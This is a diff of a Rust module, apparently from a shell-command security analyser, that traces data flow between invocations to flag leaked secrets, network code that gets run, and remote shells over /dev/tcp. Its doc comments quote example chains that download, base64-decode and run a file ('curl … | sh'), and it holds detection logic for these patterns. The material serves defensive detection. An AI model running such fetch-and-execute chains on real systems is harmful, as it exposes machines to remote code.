@@ -1,9 +1,24 @@
 //! Effects that together are more than each: a secret that is sent, code that is fetched and run, a
 //! shell between two ends of a connection.
 //!
-//! Invocations hang together by pipes, by words that hold what others wrote, and by files that one
-//! writes and another reads. From each that sends, or that runs what it reads, this is followed
-//! backwards.
+//! Invocations are the nodes of a graph. One feeds another by a pipe, by a word that holds what the
+//! other wrote (`$(…)`), by a file that one writes and the other reads, or because it runs the
+//! other. From each invocation that sends something, or that runs what it reads, [`join`] follows
+//! the edges backwards and adds an effect for what it finds there: [`Effect::Leak`],
+//! [`Effect::Code`] from the network or from a decoder, [`Effect::RemoteShell`].
+//!
+//! The graph says that data may flow, and not that it does: `curl x | sort | sh` counts as running
+//! what the network sends, whatever `sort` leaves of it.
+//!
+//! # Example
+//!
+//! ```text
+//! curl -s https://get.example/x > /tmp/x; base64 -d /tmp/x > /tmp/y; sh /tmp/y
+//! ```
+//!
+//! `sh` runs a file, so the search begins at `sh`. `base64` writes that file, and reads one that
+//! `curl` writes; `curl` reaches the network. So `sh` gets two effects more: it runs what the
+//! network sent, and it runs what was decoded.
 
 mod programs;
 #[cfg(test)]
@@ -11,21 +26,25 @@ mod tests;
 
 use std::collections::BTreeSet;
 
-use super::effect::{Access, Certainty, CodeFrom, Effect, Found, Leak, Payload, Scope};
-use super::invocation::{Argument, Invocation, Stdin, Stdout};
-use super::ir::Span;
-use super::place;
-use super::value::{Origin, Value};
-use programs::{CLONERS, CONNECTORS, COPIERS, DATA, RESOLVERS, SHELLS, TELLING};
+use crate::effect::{Access, Certainty, CodeFrom, Effect, Found, Leak, Payload, Scope};
+use crate::invocation::{Argument, Invocation, Stdin, Stdout};
+use crate::ir::Span;
+use crate::place;
+use crate::value::{Origin, Value};
+use programs::{
+    CONNECTORS, COPY_PROGRAMS, DESCRIBE_MACHINE, FETCH_REPOSITORIES, HTTP_DATA_OPTIONS, RESOLVERS,
+    SHELLS,
+};
 
-/// What hangs together, as effects of those that send, or that run what they read.
+/// The effects that arise from several invocations together, of those that send or that run what
+/// they read.
 #[must_use]
 pub fn join(text: &str, invocations: &[Invocation], found: &[Found]) -> Vec<Found> {
     if !found.iter().any(may_end_a_flow) && !invocations.iter().any(reads_code) {
         return Vec::new();
     }
     let mut graph = Graph::new(text, invocations, found);
-    graph.before = (0..invocations.len()).map(|number| graph.feeders(number)).collect();
+    graph.before = (0..invocations.len()).map(|number| graph.direct_sources(number)).collect();
     graph.commanded = (0..invocations.len())
         .map(|number| graph.code_sources(number).iter().any(|from| graph.is_network(*from)))
         .collect();
@@ -34,7 +53,7 @@ pub fn join(text: &str, invocations: &[Invocation], found: &[Found]) -> Vec<Foun
         graph.sends(number, &mut joined);
         graph.runs(number, &mut joined);
     }
-    graph.of_shell(&mut joined);
+    graph.add_effects_of_shell(&mut joined);
     let mut all: Vec<Found> = Vec::new();
     for found in joined {
         if !all.contains(&found) {
@@ -44,7 +63,8 @@ pub fn join(text: &str, invocations: &[Invocation], found: &[Found]) -> Vec<Foun
     all
 }
 
-/// True for what sends or runs something that may come from elsewhere.
+/// True for an effect that sends or runs something that may come from elsewhere. Without one, the
+/// graph is not built.
 fn may_end_a_flow(found: &Found) -> bool {
     match &found.effect {
         Effect::Network { .. } | Effect::Code { .. } | Effect::Dynamic { .. } => true,
@@ -53,15 +73,19 @@ fn may_end_a_flow(found: &Found) -> bool {
     }
 }
 
-/// True for one that may run what it is given, whatever is found of it.
+/// True for an invocation that may run what it is given, whatever effects were found of it.
 fn reads_code(invocation: &Invocation) -> bool {
     let name = invocation.name().unwrap_or_default();
     evaluates(invocation, name) || is_shell(name) || tcp(&invocation.stdin)
 }
 
+/// The invocations of a text, and what flows between them.
 struct Graph<'a> {
+    /// The text, to see what stands between two invocations.
     text: &'a str,
+    /// The nodes.
     invocations: &'a [Invocation],
+    /// The effects of all invocations.
     found: &'a [Found],
     /// For each invocation, the files that it reads and those that it writes.
     files: Vec<(BTreeSet<&'a str>, BTreeSet<&'a str>)>,
@@ -74,6 +98,8 @@ struct Graph<'a> {
 }
 
 impl<'a> Graph<'a> {
+    /// Collects, for each invocation, the files that it reads and writes and the invocations that
+    /// it runs.
     fn new(text: &'a str, invocations: &'a [Invocation], found: &'a [Found]) -> Graph<'a> {
         let mut files = vec![(BTreeSet::new(), BTreeSet::new()); invocations.len()];
         let mut inner = vec![Vec::new(); invocations.len()];
@@ -111,14 +137,17 @@ impl<'a> Graph<'a> {
         Graph { text, invocations, found, files, inner, before, commanded }
     }
 
+    /// The effects of an invocation.
     fn effects(&self, number: usize) -> impl Iterator<Item = &'a Found> + use<'a> {
         self.found.iter().filter(move |found| found.by == Some(number))
     }
 
+    /// The name of an invocation's program; empty if it is not known.
     fn name(&self, number: usize) -> &'a str {
         self.invocations[number].name().unwrap_or_default()
     }
 
+    /// The invocations that wrote what one reads on standard input.
     fn stdin(&self, number: usize) -> Vec<usize> {
         match &self.invocations[number].stdin {
             Stdin::Pipe(numbers) => numbers.clone(),
@@ -129,20 +158,21 @@ impl<'a> Graph<'a> {
         }
     }
 
-    /// Those that wrote what stands in its words. What they wrote may be known.
+    /// The invocations that wrote what stands in the words of one. What they wrote may be known.
     fn words(&self, number: usize) -> Vec<usize> {
         let invocation = &self.invocations[number];
         let words = invocation.arguments.iter().chain([&invocation.program]);
         words.flat_map(Self::word).collect()
     }
 
+    /// The invocations that wrote what stands in a word.
     fn word(word: &Argument) -> Vec<usize> {
         let mut all = word.value.outputs().to_vec();
         all.extend(word.made_by.iter().filter(|number| !word.value.outputs().contains(number)));
         all
     }
 
-    /// Those that write what one reads from files.
+    /// The invocations that write a file which this one reads.
     fn writers(&self, number: usize) -> Vec<usize> {
         let reads = &self.files[number].0;
         let writes = |other: &usize| {
@@ -151,8 +181,9 @@ impl<'a> Graph<'a> {
         (0..self.invocations.len()).filter(writes).collect()
     }
 
-    /// All from which something comes to these, themselves included.
-    fn behind(&self, from: Vec<usize>) -> BTreeSet<usize> {
+    /// All invocations from which something comes to these, over any number of steps, themselves
+    /// included.
+    fn sources_of(&self, from: Vec<usize>) -> BTreeSet<usize> {
         let mut all = BTreeSet::new();
         let mut next = from;
         while let Some(number) = next.pop() {
@@ -164,8 +195,8 @@ impl<'a> Graph<'a> {
         all
     }
 
-    /// Those from which something comes to one straight away.
-    fn feeders(&self, number: usize) -> Vec<usize> {
+    /// The invocations from which something comes to one in a single step.
+    fn direct_sources(&self, number: usize) -> Vec<usize> {
         let mut all = self.stdin(number);
         all.extend(self.words(number));
         all.extend(self.writers(number));
@@ -173,6 +204,7 @@ impl<'a> Graph<'a> {
         all
     }
 
+    /// True for one that brings something in from the network.
     fn is_network(&self, number: usize) -> bool {
         let fetches = |found: &Found| {
             matches!(
@@ -183,7 +215,8 @@ impl<'a> Graph<'a> {
         self.effects(number).any(fetches) || tcp(&self.invocations[number].stdin)
     }
 
-    /// The worst of what these read.
+    /// The worst that these invocations read: a secret, the environment, or something of this
+    /// machine.
     fn leak(&self, numbers: &BTreeSet<usize>) -> Option<Leak> {
         let of_effect = |effect: &Effect| match effect {
             Effect::Secret { .. } => Some(Leak::Secret),
@@ -201,11 +234,12 @@ impl<'a> Graph<'a> {
             .filter_map(|found| of_effect(&found.effect));
         let telling = numbers
             .iter()
-            .filter(|number| TELLING.contains(&self.name(**number)))
+            .filter(|number| DESCRIBE_MACHINE.contains(&self.name(**number)))
             .map(|_| Leak::Local);
         read.chain(telling).max()
     }
 
+    /// Adds an effect of the invocation that causes it.
     fn add(&self, joined: &mut Vec<Found>, cause: &Found, effect: Effect) {
         joined.push(Found { effect, ..cause.clone() });
     }
@@ -228,7 +262,7 @@ impl<'a> Graph<'a> {
             if reads_input {
                 let mut from = self.stdin(number);
                 from.extend(self.writers_of_stdin(number));
-                leak = leak.max(self.leak(&self.behind(from)));
+                leak = leak.max(self.leak(&self.sources_of(from)));
                 if let Stdin::File(path) = &invocation.stdin {
                     leak = leak.max(self.leak_of_file(number, path));
                 }
@@ -252,7 +286,7 @@ impl<'a> Graph<'a> {
             // What a shell writes goes where its commands come from.
             let mut from = self.stdin(number);
             from.extend(self.writers_of_stdin(number));
-            for other in self.behind(from) {
+            for other in self.sources_of(from) {
                 if self.commanded[other] && other != number {
                     self.add(joined, cause, Effect::RemoteShell);
                 }
@@ -260,6 +294,7 @@ impl<'a> Graph<'a> {
         }
     }
 
+    /// The invocations that wrote the file which one reads on standard input.
     fn writers_of_stdin(&self, number: usize) -> Vec<usize> {
         match &self.invocations[number].stdin {
             Stdin::File(_) => self.writers(number),
@@ -267,13 +302,14 @@ impl<'a> Graph<'a> {
         }
     }
 
+    /// What leaks with a file that is sent.
     fn leak_of_file(&self, number: usize, path: &Value) -> Option<Leak> {
         let name = |path: &Value| path.prefix().rsplit('/').next().unwrap_or_default().to_owned();
         let secret = self.effects(number).any(|found| match &found.effect {
             Effect::File(file) => file.scope == Scope::Secret && name(&file.path) == name(path),
             _ => false,
         });
-        let writers = self.leak(&self.behind(self.writers(number)));
+        let writers = self.leak(&self.sources_of(self.writers(number)));
         let shell = self.found.iter().any(|found| match &found.effect {
             Effect::File(file) => {
                 found.by.is_none() && file.scope == Scope::Secret && &file.path == path
@@ -293,18 +329,18 @@ impl<'a> Graph<'a> {
             let option = option.and_then(|word| word.value.as_known()).unwrap_or_default();
             let text = word.value.prefix();
             let is_data = is_resolver
-                || DATA.contains(&option)
+                || HTTP_DATA_OPTIONS.contains(&option)
                 || text.starts_with("--data")
                 || text.starts_with("--post")
                 || text.starts_with("-d") && text.len() > 2 && !text.starts_with("--");
             let from = Self::word(word);
             if !from.is_empty() {
-                let leak = self.leak(&self.behind(from));
+                let leak = self.leak(&self.sources_of(from));
                 worst = worst.max(leak.filter(|leak| is_data || *leak > Leak::Local));
             }
             if let Some(Origin::Environment(name) | Origin::EnvironmentOr(name, _)) =
                 word.value.origin()
-                && super::code::is_secret_name(name)
+                && crate::names::is_secret_name(name)
                 && !authorizes(option, text)
             {
                 worst = worst.max(Some(Leak::Secret));
@@ -341,10 +377,10 @@ impl<'a> Graph<'a> {
         }
         from.extend(Self::word(&invocation.program));
         from.retain(|other| *other != number && !self.inner[number].contains(other));
-        self.behind(from)
+        self.sources_of(from)
     }
 
-    /// What one runs that others wrote.
+    /// Adds what one runs that others wrote.
     fn runs(&self, number: usize, joined: &mut Vec<Found>) {
         let invocation = &self.invocations[number];
         let sources = self.code_sources(number);
@@ -379,7 +415,7 @@ impl<'a> Graph<'a> {
 
     /// True for one that runs a file which code in the text has made.
     fn runs_what_code_wrote(&self, number: usize) -> bool {
-        const EDITORS: &[&str] = &["sed", "awk", "jq"];
+        const FILTER_LANGUAGES: &[&str] = &["sed", "awk", "jq"];
         let executes = self.effects(number).filter_map(|found| match &found.effect {
             Effect::File(file) if file.access == Access::Execute => Some(possible(&file.path)),
             _ => None,
@@ -387,7 +423,7 @@ impl<'a> Graph<'a> {
         let paths: BTreeSet<&str> = executes.flatten().collect();
         let is_code = |found: &Found| {
             matches!(&found.effect, Effect::Code { from: CodeFrom::Inline(language) }
-                if !EDITORS.contains(&&**language))
+                if !FILTER_LANGUAGES.contains(&&**language))
         };
         self.writers(number).into_iter().any(|writer| {
             !self.files[writer].1.is_disjoint(&paths) && self.effects(writer).any(is_code)
@@ -418,7 +454,7 @@ impl<'a> Graph<'a> {
             clones.any(|folder| place::is_within(place, folder))
         };
         let copies = |other: usize| {
-            COPIERS.contains(&self.name(other))
+            COPY_PROGRAMS.contains(&self.name(other))
                 && self.named_places(other).iter().any(|place| is_there(place))
         };
         places.into_iter().any(is_there)
@@ -451,7 +487,7 @@ impl<'a> Graph<'a> {
     /// run.
     fn is_clone(&self, number: usize) -> bool {
         matches!(self.invocations[number].stdout, Stdout::Inherited | Stdout::Nowhere)
-            && CLONERS.contains(&self.name(number))
+            && FETCH_REPOSITORIES.contains(&self.name(number))
             && self.cloned_into(number).next().is_some()
     }
 
@@ -467,13 +503,13 @@ impl<'a> Graph<'a> {
     }
 
     /// What the shell itself sends, and what it runs of files that were fetched.
-    fn of_shell(&self, joined: &mut Vec<Found>) {
+    fn add_effects_of_shell(&self, joined: &mut Vec<Found>) {
         for cause in self.found.iter().filter(|found| found.by.is_none()) {
             match &cause.effect {
                 Effect::Network { .. } => {
                     let to_tcp = |number: &usize| matches!(&self.invocations[*number].stdout, Stdout::File { path, .. } if is_tcp(path));
                     let from: Vec<usize> = (0..self.invocations.len()).filter(to_tcp).collect();
-                    if let Some(leak) = self.leak(&self.behind(from)) {
+                    if let Some(leak) = self.leak(&self.sources_of(from)) {
                         self.add(joined, cause, Effect::Leak(leak));
                     }
                 }
@@ -482,7 +518,7 @@ impl<'a> Graph<'a> {
                     let writes = |number: &usize| !self.files[*number].1.is_disjoint(&paths);
                     let mut from: Vec<usize> = (0..self.invocations.len()).filter(writes).collect();
                     from.extend(file.path.outputs());
-                    let sources = self.behind(from);
+                    let sources = self.sources_of(from);
                     if sources.iter().any(|source| self.is_network(*source)) {
                         self.add(joined, cause, Effect::Code { from: CodeFrom::Network });
                     }
@@ -582,19 +618,23 @@ fn evaluates(invocation: &Invocation, name: &str) -> bool {
     invocation.builtin && matches!(name, "eval" | "source" | "." | "trap")
 }
 
+/// True for a shell, and for an interpreter that may run commands.
 fn is_shell(name: &str) -> bool {
     let interpreters = ["python", "perl", "ruby", "node", "php", "lua"];
     SHELLS.contains(&name) || interpreters.iter().any(|start| name.starts_with(start))
 }
 
+/// The known texts of a path.
 fn possible(path: &Value) -> Vec<&str> {
     path.possible().unwrap_or_default().iter().map(String::as_str).collect()
 }
 
+/// True for `/dev/tcp/…` and `/dev/udp/…`, by which Bash opens a connection.
 fn is_tcp(path: &Value) -> bool {
     path.prefix().starts_with("/dev/tcp/") || path.prefix().starts_with("/dev/udp/")
 }
 
+/// True where standard input is such a connection.
 fn tcp(stdin: &Stdin) -> bool {
     matches!(stdin, Stdin::File(path) if is_tcp(path))
 }
